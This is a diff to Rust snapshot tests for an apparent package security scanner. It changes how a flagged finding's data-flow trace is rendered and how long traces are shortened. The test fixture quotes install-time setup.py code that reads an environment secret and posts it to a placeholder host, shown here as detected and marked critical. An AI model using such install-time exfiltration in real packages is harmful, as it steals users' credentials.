@@ -284,6 +284,9 @@ fn everything_there_is_to_say_of_a_finding() {
       = why: It runs when the package is installed,
              before any of its code is read.
       = help: Remove the call
+      = flow: 1. read here, line 3: key = os.environ['KEY']
+              2. put into a dictionary, line 4: data = {'k': key}
+              3. sent here, line 6: requests.post('http://x', data)
       = fix: remove it
       = see: https://example.org/a
     note: imported here
@@ -291,21 +294,6 @@ fn everything_there_is_to_say_of_a_finding() {
       |
     1 | import os, requests
       |            ^^^^^^^^
-    note: step 1 of 3: read here
-     --> dist/x 1.0.tar.gz!x-1.0/setup.py:3:7
-      |
-    3 | key = os.environ['KEY']
-      |       ^^^^^^^^^^^^^^^^^
-    note: step 2 of 3: put into a dictionary
-     --> dist/x 1.0.tar.gz!x-1.0/setup.py:4:8
-      |
-    4 | data = {'k': key}
-      |        ^^^^^^^^^^
-    note: step 3 of 3: sent here
-     --> dist/x 1.0.tar.gz!x-1.0/setup.py:6:1
-      |
-    6 | requests.post('http://x', data)
-      | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
 
     1 finding: 1 critical
     1 of 1 file analysed
@@ -326,21 +314,24 @@ fn long_traces_are_shown_by_their_ends() {
         })
         .collect();
     let report = render(draft(vec![finding]), &files);
-    let notes: Vec<&str> = report
+    let lines = report
         .lines()
-        .filter(|line| line.starts_with("note: "))
-        .skip(1)
+        .map(str::trim)
+        .map(|line| line.trim_start_matches("= flow: "));
+    let steps: Vec<&str> = lines
+        .filter(|line| line.contains(". n") || line.contains("more steps"))
+        .map(|line| line.split(", line 3").next().unwrap_or_default())
         .collect();
-    assert_snapshot!(notes.join("\n"), @r"
-    note: step 1 of 1000: n1
-    note: step 2 of 1000: n2
-    note: step 3 of 1000: n3
-    note: step 4 of 1000: n4
-    note: 992 more steps are not shown
-    note: step 997 of 1000: n997
-    note: step 998 of 1000: n998
-    note: step 999 of 1000: n999
-    note: step 1000 of 1000: n1000
+    assert_snapshot!(steps.join("\n"), @r"
+    1. n1
+    2. n2
+    3. n3
+    4. n4
+    992 more steps are not shown
+    997. n997
+    998. n998
+    999. n999
+    1000. n1000
     ");
 }
 
